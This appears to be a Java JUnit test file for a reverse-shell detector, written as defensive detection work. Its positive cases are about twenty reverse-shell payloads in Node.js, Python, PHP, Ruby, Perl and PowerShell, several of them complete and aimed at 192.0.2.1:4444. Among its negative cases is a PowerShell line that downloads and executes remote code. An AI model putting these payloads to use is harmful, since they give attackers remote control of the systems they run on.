package dev.assay.detectors.indicator.command;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ReverseShellTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);\n"
                        + "var client=new net.Socket();\nclient.connect(4444,\"192.0.2.1\",function(){client.pipe(sh.stdin);"
                        + "sh.stdout.pipe(client);sh.stderr.pipe(client);});",
                "require('net').connect(4444, h, function () { const sh = spawn('/bin/sh'); this.pipe(sh.stdin); });",
                "const s = net.connect(4444, h);\nspawn('/bin/sh', [], {stdio: [s, s, s]});",
                "const s = net.connect(4444, h), sh = spawn('sh'), {stdin, stdout} = sh;\nstdout.pipe(s); s.pipe(stdin);",
                "net.createServer(c => { const sh = spawn('/bin/sh'); c.pipe(sh.stdin); sh.stdout.pipe(c); }).listen(1);\n"
                        + "const t = net.connect(1);",
                "import socket,subprocess,os\ns=socket.socket();s.connect((h,4444))\nos.dup2(s.fileno(),0)\n"
                        + "subprocess.call(['/bin/sh','-i'])",
                "from socket import *\ns=socket(AF_INET)\ns.connect((h,1))\n"
                        + "[os.dup2(s.fileno(), f) for f in (0,1,2)]\npty.spawn('/bin/sh')",
                "import socket as k,os,pty;s=k.socket();s.connect((h,1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
                "with socket.create_connection((h, 1)) as c:\n    subprocess.Popen(['/bin/sh'], stdin=c, stdout=c)",
                "s=socket.socket()\ns.connect((h,1))\nwhile True:\n  d=s.recv(1024)\n  p=subprocess.Popen(d.decode(),shell=True)",
                "s = socket.socket()\np = subprocess.Popen(['sh'])\np.stdin.write(s.recv(99))",
                "<?php $sock=fsockopen(\"192.0.2.1\",4444);$p=proc_open(\"/bin/sh -i\", array(0=>$sock, 1=>$sock),$pipes);",
                "<?php $sock = fsockopen($ip, 1);\n$shell = '/bin/sh -i';\n$process = proc_open($shell, $spec, $pipes);\n"
                        + "$input = fread($sock, 9);\nfwrite($pipes[0], $input);",
                "<?php $sock=fsockopen(\"192.0.2.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
                "require 'socket'\nc=TCPSocket.new(h,4444)\nwhile(cmd=c.gets);IO.popen(cmd,'r'){|io|c.print io.read}end",
                "f=TCPSocket.open(h,1).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)",
                "use Socket;socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,$a)){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};",
                "<?php $s=fsockopen(\"192.0.2.1\",4444);exec(\"sh <&3 >&3 2>&3\");",
                "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,\">&S\");exec(\"sh -i\");",
                "use IO::Socket;$c=new IO::Socket::INET(PeerAddr,\"192.0.2.1:1\");STDIN->fdopen($c,r);"
                        + "$~->fdopen($c,w);system$_ while<>;",
                "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1',4444);$s = $c.GetStream();\n"
                        + "$d = $e.GetString($b,0,$i);$r = (iex $d 2>&1 | Out-String);",
            })
    void aConnectionAndAShellAreJoined(String program) {
        assertThat(ReverseShell.isIn(program)).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                // whether a port is open, and a build
                "const s=net.connect(5432,\"localhost\",()=>{s.end();});\nconst sh=spawn(\"/bin/sh\",[\"-c\",\"make\"]);\n"
                        + "sh.stdout.pipe(process.stdout);process.stdin.pipe(sh.stdin);",
                "const s = net.connect(5432, h);\nconst log = fs.createWriteStream('l');\n"
                        + "const sh = spawn('/bin/sh', ['-c', 'make']);\nsh.stdout.pipe(log); sh.stderr.pipe(process.stderr);",
                "const s = net.connect(5432, h);\nhttps.get(u, r => { const f = fs.createWriteStream('x'); r.pipe(f); });\n"
                        + "spawn('/bin/sh', ['-c', 'make']);",
                "const s = net.connect(5432, h);\nrequest(u).pipe(zlib.createGunzip()).pipe(tar.extract({cwd: d}));\n"
                        + "execSync('make', {shell: '/bin/bash'});",
                "const s = net.connect(5432, h);\ns.on('data', d => { m = /v(.*)/.exec(d.toString()); });\nspawn('sh', ['x']);",
                "const port = require('net').createServer().listen(0).address().port;\nspawn('/bin/sh', ['s.sh', port]);",
                "s = socket.socket()\nif s.connect_ex((h, 5432)) == 0: s.close()\nsubprocess.Popen(['/bin/sh', '-c', 'make'])",
                "s = socket.socket()\ns.bind(('', 0))\nport = s.getsockname()[1]\n"
                        + "subprocess.Popen(['/bin/sh', 'serve.sh', str(port)])",
                "import socket\nlog = open('log', 'w')\nos.dup2(log.fileno(), 1)\nos.dup2(sys.stderr.fileno(), 2)\n"
                        + "subprocess.call(['/bin/sh', 'x'])",
                "<?php $f = @fsockopen('localhost', 3306); fclose($f);\n$p = proc_open('/bin/sh build.sh', $spec, $pipes);\n"
                        + "fwrite($pipes[0], $text);",
                "<?php $f = fsockopen($h, 25); fwrite($f, 'QUIT'); echo fgets($f); system('/bin/sh x.sh');",
                "s = TCPSocket.new('localhost', 5432); s.close\nIO.popen(['/bin/sh', '-c', 'make']) { |io| puts io.read }",
                "use Socket;socket(S,PF_INET,SOCK_STREAM,6);close(S);open(STDIN, '<', '/dev/null');exec('/bin/sh x');",
                "use IO::Socket;$c=new IO::Socket::INET('localhost:5432');print 'up' if $c;system('make');",
                "<?php $f = fsockopen($h, 25); fclose($f); exec('sh build.sh');",
                "$t = New-Object Net.Sockets.TcpClient; $t.Connect('localhost', 5432); $t.Close()\n"
                        + "iex ((New-Object Net.WebClient).DownloadString('https://a.example/x'))",
            })
    void aPortIsAskedForAndAShellIsStarted(String program) {
        assertThat(ReverseShell.isIn(program)).isFalse();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "s=net.connect(",
                "s=socket.socket\n",
                "s(",
                "s=(s(",
                "net.connect,s=s.read(",
                ".pipe(",
                "dup2(",
                "/bin/sh popen(socket.socket(",
                "x.pipe(s.stdin)"
            })
    void whateverIsSaidAgainAndAgainEnds(String part) {
        String text = "s=net.connect('/bin/sh');" + part.repeat((64 << 10) / part.length());
        assertTimeoutPreemptively(Duration.ofSeconds(20), () -> ReverseShell.isIn(text));
    }
}
